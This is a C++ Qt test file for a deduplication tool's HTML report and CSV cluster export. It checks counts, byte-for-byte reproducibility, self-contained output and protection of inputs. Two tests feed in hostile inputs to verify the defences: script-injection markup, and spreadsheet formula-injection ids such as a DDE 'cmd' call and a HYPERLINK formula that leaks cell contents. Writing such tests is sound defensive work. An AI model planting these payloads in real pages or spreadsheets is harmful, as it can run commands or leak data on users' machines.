// `neardup report` and core/report: the HTML report of a stored run. Its counts are the run's,
// every string from the data comes out escaped, it references nothing outside itself, the same
// run gives the same bytes, a changed input is refused (or left out with --no-text), and it
// never replaces an input or the project. `--clusters-csv` writes the clusters beside it as
// RFC 4180 CSV, formula-like cells guarded unless `--csv-raw`.
#include <QDir>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include "cluster_csv.h"
#include "html_text.h"
#include "project_store.h"
#include "run_report.h"
#include "test_support.h"

namespace {

using Result = testsupport::CliResult;
using testsupport::readFile;

QString sampleInput(const char* name) {
    return QStringLiteral(NEARDUP_SOURCE_DIR "/resources/samples/") + QLatin1String(name);
}

// The number after `label` in the report's accounting line ("lines read 1,204 = ...").
qint64 accounted(const QString& html, const QString& label) {
    const QRegularExpression re(QRegularExpression::escape(label) + QStringLiteral(" ([0-9,]+)"));
    const QRegularExpressionMatch m = re.match(html);
    if (!m.hasMatch()) return -1;
    return m.captured(1).remove(QLatin1Char(',')).toLongLong();
}

// A line of JSON Lines with this id and text.
std::string jsonLine(const std::string& id, const std::string& text) {
    const QJsonObject o{{QStringLiteral("id"), QString::fromStdString(id)},
                        {QStringLiteral("text"), QString::fromStdString(text)}};
    return QJsonDocument(o).toJson(QJsonDocument::Compact).toStdString() + "\n";
}

// The records of an RFC 4180 text (CRLF rows; quoted fields may hold commas, quotes, line
// breaks); empty when it is malformed.
QList<QStringList> parseCsv(const QString& text) {
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c != u'"') {
                field += c;
            } else if (i + 1 < text.size() && text[i + 1] == u'"') {
                field += c;
                ++i;
            } else {
                quoted = false;
            }
        } else if (c == u'"' && field.isEmpty()) {
            quoted = true;
        } else if (c == u',') {
            row << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row << field;
            field.clear();
            rows << row;
            row.clear();
            ++i;
        } else if (c == u'\r' || c == u'\n' || c == u'"') {
            return {};  // a bare line break or quote outside quotes
        } else {
            field += c;
        }
    }
    if (quoted || !field.isEmpty() || !row.isEmpty()) return {};  // the last row ends in CRLF
    return rows;
}

}  // namespace

class TestReport : public QObject {
    Q_OBJECT
    QTemporaryDir dir_;
    QString d(const char* name) const { return dir_.filePath(QLatin1String(name)); }
    testsupport::CliOptions inDir() const {
        return testsupport::CliOptions().inFolder(dir_.path());
    }
    Result report(const QStringList& extra) {
        return testsupport::neardup(QStringList{QStringLiteral("report")} + extra, inDir());
    }

  private slots:
    void initTestCase() {
        QVERIFY(dir_.isValid());
        // The bundled sample with its bad lines: documents, rejections and a blank line.
        QVERIFY(QFile::copy(sampleInput("sample.jsonl"), d("sample.jsonl")));
        QVERIFY(QFile::copy(sampleInput("sample-bad-lines.jsonl"), d("bad.jsonl")));
        const Result r =
            testsupport::neardup({QStringLiteral("run"), QStringLiteral("-p"), d("p.ndw"),
                                  QStringLiteral("--summary-json"), d("summary.json"),
                                  d("sample.jsonl"), d("bad.jsonl")},
                                 inDir());
        QCOMPARE(r.code, 0);
    }

    void countsMatchTheRunSummary() {
        const Result r =
            report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--out"), d("report.html")});
        QCOMPARE(r.code, 0);
        QVERIFY(r.err.contains(QStringLiteral("wrote the report of run 1")));
        const QString html = QString::fromUtf8(readFile(d("report.html")));
        const QJsonObject s = QJsonDocument::fromJson(readFile(d("summary.json"))).object();
        QCOMPARE(accounted(html, QStringLiteral("lines read")),
                 s.value(QStringLiteral("lines_read")).toInteger());
        QCOMPARE(accounted(html, QStringLiteral("= documents")),
                 s.value(QStringLiteral("documents")).toInteger());
        QCOMPARE(accounted(html, QStringLiteral("+ rejected")),
                 s.value(QStringLiteral("rejected")).toInteger());
        QCOMPARE(accounted(html, QStringLiteral("+ blank")),
                 s.value(QStringLiteral("blank_lines")).toInteger());
        QCOMPARE(accounted(html, QStringLiteral("= kept")),
                 s.value(QStringLiteral("kept")).toInteger());
        QCOMPARE(accounted(html, QStringLiteral("+ removed")),
                 s.value(QStringLiteral("removed")).toInteger());
        QVERIFY(s.value(QStringLiteral("rejected")).toInteger() > 0);
        QVERIFY(!html.contains(QStringLiteral("does not balance")));
        // Every parameter that changes results, rejections by reason, charts and the pairs.
        for (const char* part :
             {"18 × 7", "threshold", "<th>verify</th><td>borderline", "<th>keep</th><td>first",
              "<th>decide</th><td>witness", "<th>seed</th><td>42", "malformed_json",
              "Seconds per phase", "S-curve", "Buckets by size", "Clusters by size",
              "Largest components", "not measured", "Outlier buckets", "<del>", "<ins>",
              "sample.jsonl", "Reviewed 0 of"})
            QVERIFY2(html.contains(QString::fromUtf8(part)), part);
        // One table of the largest clusters, with the diameters of those measured.
        QVERIFY(!html.contains(QStringLiteral("Largest clusters")));
        QCOMPARE(html.count(QStringLiteral("<h2>Largest components</h2>")), 1);
        QCOMPARE(html.count(QStringLiteral("<div class=\"pair\">")), 8);
    }

    // On a run against a reference, the pairs between two reference documents are the
    // reference's own: the run neither joins nor counts them. The counts, the sample's note and
    // --summary-json give one number, the report says which pairs it counts, and no pair shown
    // is one of the reference's own.
    void aReferenceRunCountsOneSetOfPairs() {
        const QList<QByteArray> lines = readFile(d("sample.jsonl")).split('\n');
        QVERIFY(lines.size() > 400);
        QByteArray old, fresh;
        QStringList referenceIds;
        for (int i = 0; i < 400; ++i) {
            (i < 200 ? old : fresh) += lines[i] + '\n';
            if (i < 200)
                referenceIds << QJsonDocument::fromJson(lines[i])
                                    .object()
                                    .value(QStringLiteral("id"))
                                    .toString();
        }
        testsupport::writeFile(d("old.jsonl").toStdString(), old.toStdString());
        testsupport::writeFile(d("new.jsonl").toStdString(), fresh.toStdString());
        Result r = testsupport::neardup({QStringLiteral("run"), d("old.jsonl"),
                                         QStringLiteral("-p"), d("old.ndw"), QStringLiteral("-q")},
                                        inDir());
        QVERIFY2(r.code == 0, qPrintable(r.err));
        r = testsupport::neardup(
            {QStringLiteral("run"), d("new.jsonl"), QStringLiteral("-p"), d("new.ndw"),
             QStringLiteral("--reference"), d("old.ndw"), QStringLiteral("-q"),
             QStringLiteral("--summary-json"), d("new.json")},
            inDir());
        QVERIFY2(r.code == 0, qPrintable(r.err));
        r = report({QStringLiteral("-p"), d("new.ndw"), QStringLiteral("--out"), d("new.html")});
        QVERIFY2(r.code == 0, qPrintable(r.err));
        const QString html = QString::fromUtf8(readFile(d("new.html")));
        const qint64 summary = QJsonDocument::fromJson(readFile(d("new.json")))
                                   .object()
                                   .value(QStringLiteral("duplicate_pairs"))
                                   .toInteger();
        QVERIFY(summary > 0);
        const auto number = [&html](const char* pattern) {
            const QRegularExpressionMatch m =
                QRegularExpression(QString::fromUtf8(pattern)).match(html);
            return m.hasMatch() ? m.captured(1).remove(QLatin1Char(',')).toLongLong() : -1;
        };
        QCOMPARE(number("<th>duplicate pairs[^<]*</th><td>([0-9,]+)</td>"), summary);
        QCOMPARE(number("of the run's ([0-9,]+) duplicate pairs"), summary);
        QVERIFY(html.contains(QStringLiteral("with a new document")));
        const QRegularExpression shown(QStringLiteral("<h3>(\\S+) \\(\\w+\\) \u2194 (\\S+) "));
        int pairs = 0;
        for (auto it = shown.globalMatch(html); it.hasNext(); ++pairs) {
            const QRegularExpressionMatch m = it.next();
            QVERIFY2(!referenceIds.contains(m.captured(1)) || !referenceIds.contains(m.captured(2)),
                     qPrintable(m.captured(0)));
        }
        QCOMPARE(pairs, 8);
    }

    void sameRunSameBytes() {
        QCOMPARE(
            report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--out"), d("a.html")}).code,
            0);
        QCOMPARE(report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--run"),
                         QStringLiteral("1"), QStringLiteral("--out"), d("b.html")})
                     .code,
                 0);
        QVERIFY(!readFile(d("a.html")).isEmpty());
        QCOMPARE(readFile(d("a.html")), readFile(d("b.html")));
    }

    void selfContained() {
        QCOMPARE(
            report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--out"), d("c.html")}).code,
            0);
        QString html = QString::fromUtf8(readFile(d("c.html")));
        // The SVG namespace is a name, not a request; nothing else may point outside.
        html.remove(QStringLiteral("xmlns=\"http://www.w3.org/2000/svg\""));
        for (const char* ref : {"http:", "https:", "src=", "<link", "@import", "url(", "<script"})
            QVERIFY2(!html.contains(QLatin1String(ref), Qt::CaseInsensitive), ref);
    }

    void scriptInADocumentComesOutInert() {
        // Two near-duplicates whose text and ids carry markup, and an unrelated document.
        std::string body;
        for (int i = 0; i < 60; ++i)
            body += "word" + std::to_string(i) + " ";
        std::string lines =
            jsonLine("evil<script>alert(1)</script>", "<script>alert('a')</script> " + body) +
            jsonLine("other\"'&", "<script>alert('b')</script> <img onerror=x> " + body) +
            jsonLine("plain", "nothing in common with the others at all, not a single shingle");
        testsupport::writeFile(d("evil.jsonl").toStdString(), lines);
        QCOMPARE(testsupport::neardup(
                     {QStringLiteral("run"), QStringLiteral("-p"), d("evil.ndw"),
                      QStringLiteral("--threshold"), QStringLiteral("0.5"), d("evil.jsonl")},
                     inDir())
                     .code,
                 0);
        QCOMPARE(
            report({QStringLiteral("-p"), d("evil.ndw"), QStringLiteral("--out"), d("evil.html")})
                .code,
            0);
        const QString html = QString::fromUtf8(readFile(d("evil.html")));
        QVERIFY(!html.contains(QStringLiteral("<script"), Qt::CaseInsensitive));
        QVERIFY(!html.contains(QStringLiteral("<img"), Qt::CaseInsensitive));
        QVERIFY(html.contains(QStringLiteral("&lt;script&gt;alert(&#39;a&#39;)&lt;/script&gt;")));
        QVERIFY(html.contains(QStringLiteral("evil&lt;script&gt;alert(1)&lt;/script&gt;")));
        QVERIFY(html.contains(QStringLiteral("other&quot;&#39;&amp;")));
        QCOMPARE(html.count(QStringLiteral("<div class=\"pair\">")), 1);
    }

    void escapingFunctions() {
        using neardup::report::escapeHtml;
        QCOMPARE(escapeHtml("<a href=\"x\">'&'</a>"),
                 std::string("&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;"));
        QCOMPARE(escapeHtml("d\xC3\xA9j\xC3\xA0"), std::string("d\xC3\xA9j\xC3\xA0"));
        // Invalid UTF-8 (a lone continuation byte, a truncated sequence) becomes U+FFFD.
        QCOMPARE(escapeHtml("a\x80<\xE2\x82"),
                 std::string("a\xEF\xBF\xBD&lt;\xEF\xBF\xBD\xEF\xBF\xBD"));
        QCOMPARE(neardup::report::groupedNumber(1234567), std::string("1,234,567"));
        QCOMPARE(std::string(neardup::report::utf8Prefix("ab\xC3\xA9", 3)), std::string("ab"));
        const auto marked = neardup::report::markWordDifferences("a <b> c", "a <b> d");
        QCOMPARE(marked.left, std::string("a &lt;b&gt; <del>c</del>"));
        QCOMPARE(marked.right, std::string("a &lt;b&gt; <ins>d</ins>"));
    }

    // The report's word diff compares words as the matcher did (the workbench's diffWords with
    // the run's normalization): a copy that changed only case and spacing has nothing marked.
    void caseChangedCopyIsUnmarked() {
        using neardup::report::markWordDifferences;
        const auto marked = markWordDifferences("The Original  text", "THE original text\t");
        QCOMPARE(marked.changedWords, std::size_t{0});
        QCOMPARE(marked.left, std::string("The Original  text"));  // shown as written
        QCOMPARE(marked.right, std::string("THE original text\t"));
        neardup::NormalizeOptions caseKept;
        caseKept.lowercase = false;
        const auto strict = markWordDifferences("The text", "THE text", caseKept);
        QCOMPARE(strict.left, std::string("<del>The</del> text"));
        QCOMPARE(strict.right, std::string("<ins>THE</ins> text"));
    }

    // The report's word diff normalizes as the run did: a run that kept case marks the words
    // whose case changed, one that lowercased does not.
    void reportDiffFollowsTheRunsNormalization() {
        std::string base;
        for (int i = 0; i < 60; ++i)
            base += "word" + std::to_string(i) + " ";
        std::string upper = base;
        upper.replace(upper.find("word7 "), 5, "WORD7");
        testsupport::writeFile(d("case.jsonl").toStdString(), "{\"id\":\"a\",\"text\":\"" + base +
                                                                  "\"}\n{\"id\":\"b\",\"text\":\"" +
                                                                  upper + "\"}\n");
        for (const bool keepCase : {false, true}) {
            const QString project = d(keepCase ? "case-kept.ndw" : "case-lower.ndw");
            QStringList args = {QStringLiteral("run"), d("case.jsonl"),
                                QStringLiteral("-p"),  project,
                                QStringLiteral("-t"),  QStringLiteral("0.5")};
            if (keepCase) args << QStringLiteral("--keep-case");
            QCOMPARE(testsupport::neardup(args, inDir()).code, 0);
            const QString out = project + QStringLiteral(".html");
            QCOMPARE(report({QStringLiteral("-p"), project, QStringLiteral("--out"), out}).code, 0);
            const QString html = QString::fromUtf8(readFile(out));
            QVERIFY(html.contains(QStringLiteral("<div class=\"pair\">")));
            QCOMPARE(html.contains(QStringLiteral("<ins>WORD7</ins>")), keepCase);
        }
    }

    void changedInputIsRefusedOrLeftOut() {
        QVERIFY(QFile::copy(d("sample.jsonl"), d("moving.jsonl")));
        QCOMPARE(testsupport::neardup({QStringLiteral("run"), QStringLiteral("-p"), d("moving.ndw"),
                                       d("moving.jsonl")},
                                      inDir())
                     .code,
                 0);
        // An edit of the same size: only the content fingerprint tells.
        QByteArray bytes = readFile(d("moving.jsonl"));
        const qsizetype at = bytes.indexOf("\"text\"") + 12;
        bytes[at] = bytes[at] == 'x' ? 'y' : 'x';
        testsupport::writeFile(d("moving.jsonl").toStdString(), bytes.toStdString());
        Result r = report(
            {QStringLiteral("-p"), d("moving.ndw"), QStringLiteral("--out"), d("moving.html")});
        QCOMPARE(r.code, 1);
        QVERIFY2(r.err.contains(QStringLiteral("moving.jsonl")), qPrintable(r.err));
        QVERIFY(r.err.contains(QStringLiteral("--no-text")));
        QVERIFY(!QFile::exists(d("moving.html")));
        r = report({QStringLiteral("-p"), d("moving.ndw"), QStringLiteral("--no-text"),
                    QStringLiteral("--out"), d("moving.html")});
        QCOMPARE(r.code, 0);
        const QString html = QString::fromUtf8(readFile(d("moving.html")));
        QVERIFY(html.contains(QStringLiteral("Document texts are left out")));
        QVERIFY(!html.contains(QStringLiteral("<div class=\"pair\">")));
        QVERIFY(html.contains(QStringLiteral("holds none of their text")));
    }

    void neverReplacesAnInputOrTheProject() {
        const QByteArray input = readFile(d("sample.jsonl"));
        const QByteArray project = readFile(d("p.ndw"));
        Result r =
            report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--out"), d("sample.jsonl")});
        QCOMPARE(r.code, 1);
        QVERIFY(r.err.contains(QStringLiteral("input")));
        r = report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--out"), d("p.ndw")});
        QCOMPARE(r.code, 1);
        QVERIFY(r.err.contains(QStringLiteral("project")));
        QCOMPARE(readFile(d("sample.jsonl")), input);
        QCOMPARE(readFile(d("p.ndw")), project);
        // A run the project does not hold: a usage error that says so, nothing written.
        r = report({QStringLiteral("-p"), d("p.ndw"), QStringLiteral("--run"), QStringLiteral("9"),
                    QStringLiteral("--out"), d("none.html")});
        QCOMPARE(r.code, 2);
        QVERIFY2(r.err.contains(QStringLiteral("holds no run 9")), qPrintable(r.err));
        QVERIFY(!QFile::exists(d("none.html")));
    }

    void decisionsReviewAndAuditAreReported() {
        QVERIFY(QFile::copy(d("p.ndw"), d("audited.ndw")));
        {
            neardup::ProjectStore store(d("audited.ndw").toStdString());
            const neardup::RunResult run = store.loadRun(1);
            uint32_t member = 0;
            while (run.clusterOf[member] == neardup::RunResult::kNoCluster)
                ++member;
            store.recordDecision(run.datasetId, neardup::DecisionKind::KeepAll, member);
            const int64_t sample = store.createAuditSample(1, 4, 7);
            store.setAuditVerdict(sample, 0, neardup::AuditVerdict::Duplicate);
            store.setAuditVerdict(sample, 1, neardup::AuditVerdict::NotDuplicate);
        }
        neardup::report::ReportOptions options;
        const auto written = neardup::report::writeRunReport(
            d("audited.ndw").toStdString(), d("audited.html").toStdString(), options);
        QCOMPARE(written.runId, int64_t{1});
        const QString html = QString::fromUtf8(readFile(d("audited.html")));
        QVERIFY(html.contains(QStringLiteral("<td>keep_all</td><td class=\"n\">1</td>")));
        // The kept-whole cluster and the two judged pairs' clusters (one or more).
        const QRegularExpressionMatch m =
            QRegularExpression(QStringLiteral("Reviewed (\\d+) of (\\d+) clusters")).match(html);
        QVERIFY(m.hasMatch());
        QVERIFY(m.captured(1).toInt() >= 1 && m.captured(1).toInt() <= 3);
        QVERIFY(html.contains(QStringLiteral("estimated precision 0.")));
        // The θ of the audit quoted: here the run's own (0.8 by default).
        QVERIFY(html.contains(QStringLiteral(") at \u03b8 0.8, 2 of 4")));
        QVERIFY(html.contains(QStringLiteral("2 of 4 drawn pairs judged (1 duplicates)")));
    }

    // --clusters-csv: one row per cluster member (the members --out-clusters lists), kept and
    // removed as the export decides, ids with commas, quotes and line breaks quoted by RFC 4180,
    // the decisions named; the same bytes twice; never over the project or the report.
    void clustersCsvBesideTheReport() {
        // (An id holding a line break is rejected as invalid_id when read: the lists are
        // line-based. The CSV quotes one all the same: see csvField below.)
        const std::string nasty = "doc, \"the nasty\" one";
        const std::string text =
            "a paragraph long enough to be shingled into many symbols so that its copy is "
            "found by every band of the signature and lands in one cluster with it";
        {
            QFile sample(sampleInput("sample.jsonl"));
            QVERIFY(sample.open(QIODevice::ReadOnly));
            std::string corpus = sample.readAll().toStdString();
            corpus += jsonLine("plain-copy", text) + jsonLine(nasty, text);
            testsupport::writeFile(d("csv.jsonl").toStdString(), corpus);
        }
        Result r = testsupport::neardup(
            {QStringLiteral("run"), QStringLiteral("-p"), d("csv.ndw"),
             QStringLiteral("--out-clusters"), d("csv-clusters.jsonl"),
             QStringLiteral("--summary-json"), d("csv-summary.json"), d("csv.jsonl")},
            inDir());
        QCOMPARE(r.code, 0);
        uint32_t nastyDoc = 0, plainDoc = 0;
        {
            neardup::ProjectStore store(d("csv.ndw").toStdString());
            neardup::DocumentTable docs;
            const neardup::RunResult run = store.loadRun(1);
            store.loadDataset(run.datasetId, &docs);
            while (docs.id(nastyDoc) != nasty)
                ++nastyDoc;
            while (docs.id(plainDoc) != "plain-copy")
                ++plainDoc;
            store.recordDecision(run.datasetId, neardup::DecisionKind::ConfirmedDuplicate, plainDoc,
                                 nastyDoc);
        }
        r = report({QStringLiteral("-p"), d("csv.ndw"), QStringLiteral("--out"), d("csv.html"),
                    QStringLiteral("--clusters-csv"), d("clusters.csv")});
        QCOMPARE(r.code, 0);
        QVERIFY2(r.err.contains(QStringLiteral("member row(s)")), qPrintable(r.err));
        const QByteArray bytes = readFile(d("clusters.csv"));
        const QList<QStringList> rows = parseCsv(QString::fromUtf8(bytes));
        QVERIFY(rows.size() > 2);
        QCOMPARE(
            rows.front().join(u','),
            QStringLiteral(
                "cluster,cluster_size,id,representative,status,witness,jaccard,exact,decision"));
        const QJsonObject summary =
            QJsonDocument::fromJson(readFile(d("csv-summary.json"))).object();
        qint64 removed = 0, representatives = 0, kept = 0;
        QStringList nastyRow;
        QMap<QString, qint64> sizes, counted;
        for (qsizetype i = 1; i < rows.size(); ++i) {
            const QStringList& row = rows[i];
            QCOMPARE(row.size(), 9);
            QVERIFY(row[4] == QStringLiteral("kept") || row[4] == QStringLiteral("removed"));
            removed += row[4] == QStringLiteral("removed");
            kept += row[4] == QStringLiteral("kept");
            representatives += row[3] == QStringLiteral("1");
            // A removed member's witness and Jaccard are named (the witness rule).
            if (row[4] == QStringLiteral("removed"))
                QVERIFY(!row[5].isEmpty() && !row[6].isEmpty());
            sizes[row[0]] = row[1].toLongLong();
            ++counted[row[0]];
            if (row[2] == QString::fromStdString(nasty)) nastyRow = row;
        }
        // One row per member of every cluster: the members --out-clusters lists.
        QCOMPARE(
            qint64(rows.size() - 1),
            qint64(QString::fromUtf8(readFile(d("csv-clusters.jsonl"))).count(QLatin1Char('\n'))));
        QCOMPARE(removed, summary.value(QStringLiteral("removed")).toInteger());
        QCOMPARE(representatives, summary.value(QStringLiteral("clusters")).toInteger());
        QCOMPARE(removed + kept, qint64(rows.size() - 1));
        for (auto it = sizes.begin(); it != sizes.end(); ++it)
            QCOMPARE(it.value(), counted[it.key()]);
        // The nasty id comes back whole, with the decision naming its pair.
        QVERIFY(!nastyRow.isEmpty());
        QVERIFY(bytes.contains("\"doc, \"\"the nasty\"\" one\""));
        QCOMPARE(neardup::report::csvField("a\nb"), std::string("\"a\nb\""));
        QCOMPARE(neardup::report::csvField("a\rb"), std::string("\"a\rb\""));
        QCOMPARE(neardup::report::csvField("plain id"), std::string("plain id"));
        QCOMPARE(nastyRow[8], QStringLiteral("confirmed_duplicate with plain-copy"));
        QVERIFY(nastyRow[4] == QStringLiteral("kept") ||
                nastyRow[5] == QStringLiteral("plain-copy"));

        // The same bytes again.
        r = report({QStringLiteral("-p"), d("csv.ndw"), QStringLiteral("--out"), d("csv2.html"),
                    QStringLiteral("--clusters-csv"), d("clusters2.csv")});
        QCOMPARE(r.code, 0);
        QCOMPARE(readFile(d("clusters2.csv")), bytes);
        QCOMPARE(readFile(d("csv2.html")), readFile(d("csv.html")));

        // Never over the project, an input or the report itself; nothing written then.
        const QByteArray project = readFile(d("csv.ndw"));
        for (const QString& target : {d("csv.ndw"), d("csv.jsonl"), d("csv3.html")}) {
            r = report({QStringLiteral("-p"), d("csv.ndw"), QStringLiteral("--out"), d("csv3.html"),
                        QStringLiteral("--clusters-csv"), target});
            QCOMPARE(r.code, 1);
            QVERIFY(r.err.contains(QStringLiteral("--clusters-csv")) ||
                    r.err.contains(QStringLiteral("--out")));
            QVERIFY(!QFile::exists(d("csv3.html")));
        }
        QCOMPARE(readFile(d("csv.ndw")), project);
    }

    // Ids are data from whoever wrote the input: one that begins like a spreadsheet formula
    // (=, +, -, @) is written with a leading ' so that a spreadsheet opening the CSV
    // shows it instead of running it, in the id, witness and decision cells alike; --csv-raw
    // writes every cell as stored, for scripts.
    void clustersCsvCellsCannotRun() {
        const std::vector<std::string> ids = {"=HYPERLINK(\"http://x/?\"&A1,\"c\")",
                                              "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "plain"};
        const std::string text =
            "a formula paragraph long enough to be shingled into many symbols so that each of "
            "its copies is found by every band of the signature and lands in one cluster";
        std::string corpus;
        for (const std::string& id : ids)
            corpus += jsonLine(id, text);
        testsupport::writeFile(d("formula.jsonl").toStdString(), corpus);
        Result r =
            testsupport::neardup({QStringLiteral("run"), QStringLiteral("-p"), d("formula.ndw"),
                                  QStringLiteral("-q"), d("formula.jsonl")},
                                 inDir());
        QCOMPARE(r.code, 0);
        {
            neardup::ProjectStore store(d("formula.ndw").toStdString());
            neardup::DocumentTable docs;
            const neardup::RunResult run = store.loadRun(1);
            store.loadDataset(run.datasetId, &docs);
            QCOMPARE(docs.size(), ids.size());
            store.recordDecision(run.datasetId, neardup::DecisionKind::KeepInstead, 2);
        }
        const auto rowsOf = [&](const QStringList& extra) {
            const Result written = report(
                QStringList{QStringLiteral("-p"), d("formula.ndw"), QStringLiteral("--out"),
                            d("formula.html"), QStringLiteral("--clusters-csv"), d("formula.csv")} +
                extra);
            if (written.code != 0) qWarning("%s", qPrintable(written.err));
            return parseCsv(QString::fromUtf8(readFile(d("formula.csv"))));
        };
        const QList<QStringList> guarded = rowsOf({});
        QCOMPARE(guarded.size(), qsizetype(ids.size() + 1));
        QStringList idCells, witnessCells;
        for (qsizetype i = 1; i < guarded.size(); ++i) {
            idCells << guarded[i][2];
            if (!guarded[i][5].isEmpty()) witnessCells << guarded[i][5];
            for (const QString& cell : guarded[i])
                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
                         qPrintable(cell));
        }
        QStringList wanted;
        for (const std::string& id : ids)
            wanted << (id == "plain" ? QString() : QStringLiteral("'")) +
                          QString::fromStdString(id);
        QCOMPARE(idCells, wanted);
        QVERIFY(!witnessCells.isEmpty());
        for (const QString& w : witnessCells)
            QVERIFY2(w.startsWith(u'\''), qPrintable(w));

        const QList<QStringList> raw = rowsOf({QStringLiteral("--csv-raw")});
        QCOMPARE(raw.size(), guarded.size());
        QStringList rawIds;
        for (qsizetype i = 1; i < raw.size(); ++i)
            rawIds << raw[i][2];
        wanted.clear();
        for (const std::string& id : ids)
            wanted << QString::fromStdString(id);
        QCOMPARE(rawIds, wanted);

        using neardup::report::CsvCells;
        using neardup::report::csvField;
        // Tab and CR cannot begin an id read from an input (invalid_id), but the rule holds.
        QCOMPARE(csvField("\r=1"), std::string("\"'\r=1\""));
        QCOMPARE(csvField("\t=1"), std::string("'\t=1"));
        QCOMPARE(csvField("=1,2"), std::string("\"'=1,2\""));
        QCOMPARE(csvField("a=1"), std::string("a=1"));
        QCOMPARE(csvField(""), std::string());
        QCOMPARE(csvField("=1,2", CsvCells::Raw), std::string("\"=1,2\""));
        QCOMPARE(csvField("@x", CsvCells::Raw), std::string("@x"));
    }
};

QTEST_GUILESS_MAIN(TestReport)
#include "test_report.moc"
